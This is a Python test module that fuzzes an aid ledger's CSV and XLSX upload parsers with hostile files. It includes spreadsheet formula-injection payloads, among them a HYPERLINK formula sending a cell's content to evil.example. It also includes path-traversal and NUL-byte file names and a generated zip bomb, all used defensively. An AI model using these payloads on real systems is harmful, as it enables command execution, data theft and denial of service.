"""Hostile files against every parser: each case ends in a clean, specific error (RowError
list, RejectedFile, DomainError) or a correct load; never a crash, a hang or a partial
write. Hypothesis generates the bytes; a hard timer (SIGALRM) turns a hang into a failure.

Every file parsed here is also parsed by the row-by-row parser the column-wise one replaced
(``tests/reference_parser.py``): both must give the same rows, row numbers, errors and
warnings (the differential test), except where a limit the old parser lacked refuses the
file, naming the limit. The bombs of issue 16 are generated here (never committed) and
parsed in a fresh process whose peak memory is measured.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from api import files
from api.files import limits
from api.loader import load_directory
from api.wiring import Store
from domain import catalogue
from domain.errors import DomainError, RejectedFile
from domain.ledger import check_row_types
from tests import reference_parser

PARSE_SECONDS_MAX = 20  # a hang is a failure, not a slow test
EXAMPLES = int(os.environ.get("AIDLEDGER_HARDENING_EXAMPLES", "100"))
HOUSEHOLDS_HEADER = ("household_id,township,village,head_name,head_id_number,members,"
                     "bank_account,account_holder,disclosure_exempt")
GOOD_HOUSEHOLD = "QX000001,东山街道,柳树村,丁超,430524194104180939,3,6228158608283008259,丁超,"
FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "\t=1+1",
            "\r=1+1")
FUZZ = settings(max_examples=EXAMPLES, deadline=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


class Hang(Exception):
    """The parser did not finish within PARSE_SECONDS_MAX."""


@contextmanager
def time_limit(seconds: float = PARSE_SECONDS_MAX) -> Iterator[None]:
    def fire(signum: int, frame: object) -> None:
        raise Hang(f"no answer within {seconds} s")

    previous = signal.signal(signal.SIGALRM, fire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


# Words of the messages of limits the row parser did not have: a file refused by one of
# them is not compared with the reference (it is checked to name its limit instead).
NEW_LIMITS = ("(MAX_", "(PARSE_", "(SHARED_STRING")


def parse_bytes(name: str, raw: bytes, kind: str | None = None) -> files.ParsedFile:
    """Write ``raw`` as ``name`` in a fresh folder and parse it, under the time limit, with
    the column-wise parser and with the reference: both must say the same."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        path.write_bytes(raw)
        with time_limit():
            parsed = files.parse_file(path, kind=kind)
            if path.suffix.lower() in files.SUFFIXES:
                assert_same_as_reference(parsed, reference_parser.parse_file(path, parsed.kind))
        return parsed


def assert_same_as_reference(parsed: files.ParsedFile,
                             reference: reference_parser.ParsedFile) -> None:
    if any(word in e.reason for e in parsed.errors for word in NEW_LIMITS):
        return  # a limit the row parser lacked: the message names it
    assert parsed.errors == reference.errors
    assert parsed.warnings == reference.warnings
    assert (parsed.sha256, parsed.encoding) == (reference.sha256, reference.encoding)
    assert parsed.row_numbers == reference.row_numbers
    assert list(parsed.rows) == reference.rows


def assert_clean_outcome(parsed: files.ParsedFile) -> None:
    """Either specific problems, or rows that are exactly the kind's typed columns."""
    assert all(isinstance(e, files.RowError) and str(e) for e in parsed.errors)
    assert len(parsed.errors) <= limits.MAX_ERRORS_LISTED + 1
    if parsed.errors:
        return
    assert len(parsed.rows) == len(parsed.row_numbers)
    for row in parsed.rows:
        check_row_types(parsed.kind, row)
        for column in catalogue.columns(parsed.kind):
            if column.value_required(row):
                assert row[column.name] not in (None, ""), (column.name, row)


KINDS = st.sampled_from(sorted(catalogue.names()))


@FUZZ
@given(kind=KINDS, raw=st.binary(max_size=4096))
def test_random_bytes_as_any_csv_end_in_errors_or_a_correct_parse(kind: str, raw: bytes) -> None:
    assert_clean_outcome(parse_bytes(f"{kind}.csv", raw))


@FUZZ
@given(kind=KINDS, raw=st.binary(max_size=4096))
def test_random_bytes_as_any_xlsx_end_in_errors(kind: str, raw: bytes) -> None:
    parsed = parse_bytes(f"{kind}.xlsx", raw)
    assert parsed.errors, "random bytes are never a workbook"
    assert_clean_outcome(parsed)


def _workbook(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


GOOD_XLSX = _workbook([HOUSEHOLDS_HEADER.split(","), GOOD_HOUSEHOLD.split(",")])


@FUZZ
@given(flips=st.lists(st.tuples(st.integers(0, len(GOOD_XLSX) - 1), st.integers(0, 255)),
                      min_size=1, max_size=8))
def test_a_damaged_xlsx_ends_in_errors_or_a_correct_parse(flips: list[tuple[int, int]]) -> None:
    raw = bytearray(GOOD_XLSX)
    for offset, value in flips:
        raw[offset] = value
    assert_clean_outcome(parse_bytes("households.xlsx", bytes(raw)))


CELL_TEXT = st.one_of(st.text(max_size=200), st.sampled_from(FORMULAS),
                      st.text(alphabet=st.characters(codec="utf-8"), max_size=50))


@FUZZ
@given(cells=st.lists(st.lists(CELL_TEXT, min_size=0, max_size=12), max_size=20),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "utf-32",
                                 "latin-1", "shift_jis", "big5"]))
def test_any_cells_in_any_encoding_end_in_errors_or_a_correct_parse(
        cells: list[list[str]], encoding: str) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HOUSEHOLDS_HEADER.split(","))
    writer.writerows(cells)
    raw = buffer.getvalue().encode(encoding, errors="replace")
    assert_clean_outcome(parse_bytes("households.csv", raw))


@FUZZ
@given(cells=st.lists(st.lists(st.one_of(CELL_TEXT, st.integers(), st.floats(),
                                         st.dates(), st.booleans(), st.none()),
                               max_size=10), max_size=15))
def test_any_cells_in_a_workbook_end_in_errors_or_a_correct_parse(
        cells: list[list[object]]) -> None:
    rows: list[list[object]] = [HOUSEHOLDS_HEADER.split(",")]
    rows += [[_xlsx_safe(c) for c in row] for row in cells]
    assert_clean_outcome(parse_bytes("households.xlsx", _workbook(rows)))


def _xlsx_safe(value: object) -> object:
    """openpyxl refuses control characters in cells; a real workbook cannot hold them."""
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def test_a_csv_with_ten_thousand_columns_is_parsed_or_refused_quickly() -> None:
    header = HOUSEHOLDS_HEADER + "," + ",".join(f"extra{n}" for n in range(10_000))
    row = GOOD_HOUSEHOLD + "," + ",".join("x" * 10 for _ in range(10_000))
    parsed = parse_bytes("households.csv", f"{header}\n{row}\n".encode())
    assert_clean_outcome(parsed)
    assert [r["household_id"] for r in parsed.rows] == ["QX000001"]


def test_a_cell_beyond_the_csv_field_limit_is_a_row_error_not_a_crash() -> None:
    huge = "丁" * 200_000
    parsed = parse_bytes("households.csv",
                         f"{HOUSEHOLDS_HEADER}\n{GOOD_HOUSEHOLD.replace('丁超', huge)}\n".encode())
    assert_clean_outcome(parsed)
    assert any("field larger than field limit" in e.reason for e in parsed.errors)


def test_a_huge_row_of_many_lines_is_parsed_within_the_time_limit() -> None:
    body = "\n".join(GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}") for n in range(50_000))
    parsed = parse_bytes("households.csv", f"{HOUSEHOLDS_HEADER}\n{body}\n".encode())
    assert parsed.ok and len(parsed.rows) == 50_000


def test_rows_beyond_max_rows_reject_the_file_naming_the_limit(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_ROWS", 3)
    body = "\n".join(GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}") for n in range(5))
    parsed = parse_bytes("households.csv", f"{HOUSEHOLDS_HEADER}\n{body}\n".encode())
    assert any("more than 3 rows" in e.reason for e in parsed.errors)


def test_a_file_beyond_max_file_bytes_is_refused_unread(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 100)
    raw = f"{HOUSEHOLDS_HEADER}\n{GOOD_HOUSEHOLD}\n".encode()
    parsed = parse_bytes("households.csv", raw)
    assert [e.reason for e in parsed.errors] == [f"file too large: {len(raw)} bytes (limit 100)"]


@pytest.mark.parametrize("payload", FORMULAS[:5])
def test_a_formula_in_a_text_cell_is_kept_as_inert_text(payload: str) -> None:
    line = GOOD_HOUSEHOLD.replace("丁超,430", f'"{payload.replace(chr(34), chr(34) * 2)}",430')
    parsed = parse_bytes("households.csv", f"{HOUSEHOLDS_HEADER}\n{line}\n".encode())
    assert parsed.ok, parsed.errors
    assert parsed.rows[0]["head_name"] == payload


def test_a_formula_in_an_amount_cell_is_a_row_error() -> None:
    text = ("household_id,program,monthly_amount,start_period,exit_period,gradual_exit_until\n"
            "QX000001,dibao,=1+1,2025-01,,\n")
    parsed = parse_bytes("enrolments.csv", text.encode())
    assert [(e.row, e.column) for e in parsed.errors] == [(2, "monthly_amount")]


def test_an_xlsx_formula_without_a_cached_value_is_an_empty_cell_not_code() -> None:
    raw = _workbook([HOUSEHOLDS_HEADER.split(","),
                     ["QX000001", "东山街道", "柳树村", "=cmd|' /C calc'!A0",
                      "430524194104180939", "=1+2", "6228158608283008259", "丁超", ""]])
    parsed = parse_bytes("households.xlsx", raw)
    assert {(e.column, e.reason) for e in parsed.errors} == {
        ("head_name", "required value is empty"), ("members", "required value is empty")}


def test_a_zip_bomb_shaped_xlsx_is_refused_by_its_directory_naming_the_limit() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<" * 5_000_000)
    parsed = parse_bytes("households.xlsx", out.getvalue())
    assert [e.reason for e in parsed.errors] == [
        "[Content_Types].xml unpacks 1026 times its packed size, more than the 100 limit "
        "(MAX_COMPRESSION_RATIO)"]


# -- the column-wise parser reads CSV as the csv module does ------------------------------
CSV_PIECES = st.sampled_from(['"', '""', ",", ";", "\t", "\r", "\n", "\r\n", " ", "\u3000",
                              "a", "１２", "300.50", "1,234.5", "-5", "2025-03", "低保", "成功",
                              "\x00", "é", "\u200b"])
PAYROLL_HEADER = ("批次号,序号,救助类别,发放年月,乡镇(街道),户编号,收款人,收款人身份证号,"
                  "银行账号,金额")
BANK_HEADER = "批次号,序号,户名,账号,金额（元）,状态,失败原因,入账日期"


@FUZZ
@given(body=st.lists(CSV_PIECES, max_size=80),
       header=st.sampled_from([PAYROLL_HEADER, BANK_HEADER, HOUSEHOLDS_HEADER]),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030"]))
def test_quotes_and_line_ends_anywhere_read_as_the_csv_module_reads_them(
        body: list[str], header: str, encoding: str) -> None:
    kind = {PAYROLL_HEADER: "payroll", BANK_HEADER: "bank_return"}.get(header, "households")
    raw = (header + "\n" + "".join(body)).encode(encoding, errors="replace")
    assert_clean_outcome(parse_bytes(f"{kind}.csv", raw))


PAYROLL_CELLS = {
    "批次号": st.sampled_from(["B1", "B2", " B1 ", "Ｂ１", ""]),
    "序号": st.sampled_from(["1", "001", "2", "2.0", "3.5", "", "x", "9" * 30]),
    "救助类别": st.sampled_from(["低保", "dibao", "tekun", "养老金", "", " 特困 "]),
    "发放年月": st.sampled_from(["2025-03", "202503", "2025/3", "2025-13", "", "２０２５－０３"]),
    "乡镇(街道)": st.sampled_from(["城关镇", "城关\u200b镇", "", "镇" * 101, " 东山街道 "]),
    "户编号": st.sampled_from(["H1", "H2", "", "Ｈ３"]),
    "金额": st.sampled_from(["300", "300.50", "1,234.50", "1_000", "1e3", "-5", "12.345",
                           "¥300", "300元", "", "NaN", "0", "-0", "999999999999.99",
                           "1000000000000.01", "３００"]),
}


@FUZZ
@given(rows=st.lists(st.fixed_dictionaries(PAYROLL_CELLS), max_size=30),
       as_xlsx=st.booleans())
def test_typed_payroll_cells_read_as_the_row_parser_read_them(
        rows: list[dict[str, str]], as_xlsx: bool) -> None:
    header = list(PAYROLL_CELLS)
    table = [header] + [[row[h] for h in header] for row in rows]
    if as_xlsx:
        parsed = parse_bytes("payroll.xlsx", _workbook(table))  # type: ignore[arg-type]
    else:
        buffer = io.StringIO()
        csv.writer(buffer).writerows(table)
        parsed = parse_bytes("payroll.csv", buffer.getvalue().encode())
    assert_clean_outcome(parsed)


def test_an_amount_cell_holding_a_yes_no_value_is_refused_like_any_bad_amount() -> None:
    raw = _workbook([PAYROLL_HEADER.split(","),
                     ["B1", 1, "低保", "2025-03", "城关镇", "H1", "", "", "", True]])
    parsed = parse_bytes("payroll.xlsx", raw)
    assert [(e.row, e.column, e.reason) for e in parsed.errors] == [
        (2, "金额", "not an amount: 'TRUE'")]


# -- file names --------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["../households.csv", "/etc/households.csv",
                                  "..\\..\\households.csv", "households.csv/../x.csv"])
def test_path_tricks_in_a_file_name_name_only_the_last_part(name: str) -> None:
    from starlette.datastructures import UploadFile

    from api.routers.imports import upload_name

    chosen = upload_name(UploadFile(io.BytesIO(b""), filename=name), "households")
    assert "/" not in chosen and chosen not in ("", ".", "..")


@pytest.mark.parametrize("name", ["households\x00.csv", "..", "", "a\r\n.csv", "x" * 300 + ".csv",
                                  "households.csv\x00.txt"])
def test_an_upload_name_with_control_characters_or_nothing_usable_is_refused(name: str) -> None:
    from starlette.datastructures import UploadFile

    from api.routers.imports import upload_name

    with pytest.raises(DomainError):
        upload_name(UploadFile(io.BytesIO(b""), filename=name), "households")


def test_kind_of_ignores_folders_and_nul_tricks() -> None:
    assert files.kind_of("households.csv\x00.txt") is None
    assert files.kind_of("../../etc/passwd") is None
    assert files.kind_of("/abs/path/payroll_2025-01.csv") == "payroll"


def test_a_folder_only_loads_regular_files_directly_inside_it(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "households.csv").write_text(f"{HOUSEHOLDS_HEADER}\n", encoding="utf-8")
    (tmp_path / "deaths.csv").mkdir()  # a folder named like a contract file
    assert files.discover(tmp_path) == []


# -- nothing is written when anything is wrong -------------------------------------------
@pytest.fixture(scope="module")
def empty_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    with Store(f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'ledger.db'}") as store:
        yield store


@FUZZ
@given(raw=st.binary(max_size=2048), suffix=st.sampled_from([".csv", ".xlsx"]),
       kind=st.sampled_from(["payroll", "bank_return", "enrolments", "reserve"]))
def test_a_folder_with_one_hostile_file_is_rejected_whole_and_writes_nothing(
        empty_store: Store, raw: bytes, suffix: str, kind: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        (folder / "households.csv").write_text(f"{HOUSEHOLDS_HEADER}\n{GOOD_HOUSEHOLD}\n",
                                               encoding="utf-8")
        (folder / f"{kind}_x{suffix}").write_bytes(raw)
        before = empty_store.ledger.recorder.max_notification_id() or 0
        with time_limit(), pytest.raises(RejectedFile) as rejected:
            load_directory(empty_store, folder)
        assert rejected.value.problems
        assert (empty_store.ledger.recorder.max_notification_id() or 0) == before == 0
